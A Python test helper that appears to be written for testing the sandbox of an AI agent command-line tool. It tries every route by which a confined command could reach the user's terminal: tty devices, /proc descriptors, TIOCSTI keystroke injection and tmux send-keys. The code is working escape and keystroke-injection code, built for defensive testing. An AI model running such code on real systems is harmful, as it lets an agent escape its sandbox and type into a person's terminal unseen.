"""An attacker's program: every way a confined command could reach the person's terminal.

    python reach_terminal.py PAYLOADS_JSON     # prints a JSON list of what got through

Standard library only: it runs as an approved shell command (and inside an MCP stdio
server's tool) under agentcli's sandbox. PAYLOADS_JSON is a file holding a list of
{"kind": "write" | "keys", "text": ...}: a "write" payload is written to every terminal the
program can open (escape sequences: a title, the clipboard, a cleared screen); a "keys"
payload is pushed into every terminal's input with TIOCSTI, one character at a time (the
keystrokes a person would type), and offered to the Linux console with TIOCLINUX. The
routes tried:

- the terminal devices by name: /dev/tty, /dev/console, /dev/tty0-63, every /dev/pts/N
  but ptmx (which makes a new terminal of the program's own), /dev/vcs*;
- the terminal of each ancestor, found from field 7 of /proc/PID/stat (tty_nr);
- every descriptor of every process it can see, reopened through /proc/PID/fd/N, and the
  ancestors' /dev seen through /proc/PID/root;
- its own descriptors 0-2 (TIOCSTI works on a read-only descriptor);
- the sockets of terminal multiplexers (tmux, screen) under /tmp, /run/user/UID and
  $TMUX_TMPDIR, connected to directly and driven with `tmux send-keys` when tmux is there.

A route counts as "got through" when a terminal opened at all (reading it would take the
person's keystrokes; a console's vcs, its screen), a write or an ioctl succeeded, or a
multiplexer's socket accepted a connection: what the person's terminal did with the bytes
is for the test to check.
"""

from __future__ import annotations

import fcntl
import glob
import json
import os
import shutil
import socket
import struct
import subprocess
import sys

TIOCSTI, TIOCLINUX = 0x5412, 0x541C


def _candidates() -> list[tuple[str, str]]:
    """(route, path) of every terminal-like file to try."""
    found = [("device", p) for p in ("/dev/tty", "/dev/console", "/dev/vcs", "/dev/vcsa")]
    found += [("device", f"/dev/tty{n}") for n in range(64)]
    found += [("device", p) for p in glob.glob("/dev/pts/*") if not p.endswith("ptmx")]
    pid = os.getpid()
    for _ in range(64):  # up the ancestors: each one's controlling terminal
        try:
            with open(f"/proc/{pid}/stat") as file:
                fields = file.read().rsplit(")", 1)[1].split()
        except OSError:
            break
        parent, tty_nr = int(fields[1]), int(fields[4])
        if tty_nr:
            major, minor = os.major(tty_nr), os.minor(tty_nr)
            if 136 <= major <= 143:
                found.append(("tty_nr", f"/dev/pts/{(major - 136) * 256 + minor}"))
                found.append(("tty_nr via root", f"/proc/{pid}/root/dev/pts/{minor}"))
            elif major == 4:
                found.append(("tty_nr", f"/dev/tty{minor}"))
        found.append(("ancestor's root", f"/proc/{pid}/root/dev/tty"))
        if parent <= 1:
            break
        pid = parent
    for fd_path in glob.glob("/proc/[0-9]*/fd/*"):
        if not fd_path.startswith(f"/proc/{os.getpid()}/"):
            found.append(("another process's descriptor", fd_path))
    return found


def _try_file(route: str, path: str, payloads: list[dict[str, str]], got: list[str]) -> None:
    for flags in (os.O_RDWR, os.O_WRONLY, os.O_RDONLY):
        try:
            fd = os.open(path, flags | os.O_NOCTTY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            if not os.isatty(fd) and not path.startswith("/dev/vcs"):
                return  # a pipe, a file, a socket: no terminal there
            got.append(f"opened {route} {path}")  # reading it takes the person's keystrokes
            _attack(fd, f"{route} {path}", payloads, got, writable=flags != os.O_RDONLY)
        finally:
            os.close(fd)


def _attack(
    fd: int, where: str, payloads: list[dict[str, str]], got: list[str], writable: bool
) -> None:
    for payload in payloads:
        data = payload["text"].encode()
        if payload["kind"] == "write" and writable:
            try:
                os.write(fd, data)
                got.append(f"write to {where}")
            except OSError:
                pass
        elif payload["kind"] == "keys":
            try:
                for byte in data:
                    fcntl.ioctl(fd, TIOCSTI, bytes([byte]))
                got.append(f"TIOCSTI on {where}")
            except OSError:
                pass
            try:
                fcntl.ioctl(fd, TIOCLINUX, struct.pack("B", 3))  # paste the selection
                got.append(f"TIOCLINUX on {where}")
            except OSError:
                pass


def _multiplexers(payloads: list[dict[str, str]], got: list[str]) -> None:
    uid = os.getuid()
    folders = [f"/tmp/tmux-{uid}", f"/run/user/{uid}", f"/run/user/{uid}/tmux-{uid}"]
    if os.environ.get("TMUX_TMPDIR"):
        folders.append(os.path.join(os.environ["TMUX_TMPDIR"], f"tmux-{uid}"))
    folders += glob.glob("/tmp/tmux-*") + glob.glob("/tmp/.X11-unix") + glob.glob("/run/screen/*")
    keys = "".join(p["text"] for p in payloads if p["kind"] == "keys")
    tmux = shutil.which("tmux")
    for folder in dict.fromkeys(folders):
        for path in glob.glob(os.path.join(folder, "*")):
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
                    sock.settimeout(1)
                    sock.connect(path)
                got.append(f"connected to {path}")
            except OSError:
                continue
            if tmux:
                ran = subprocess.run(
                    [tmux, "-S", path, "send-keys", keys],
                    capture_output=True,
                    timeout=5,
                    check=False,
                )
                if ran.returncode == 0:
                    got.append(f"tmux send-keys through {path}")


def reach(payloads: list[dict[str, str]]) -> list[str]:
    got: list[str] = []
    for route, path in _candidates():
        _try_file(route, path, payloads, got)
    for fd in (0, 1, 2):
        _attack(fd, f"own descriptor {fd}", payloads, got, writable=False)
    _multiplexers(payloads, got)
    return sorted(set(got))


if __name__ == "__main__":
    with open(sys.argv[1], encoding="utf-8") as file:
        print(json.dumps(reach(json.load(file))))
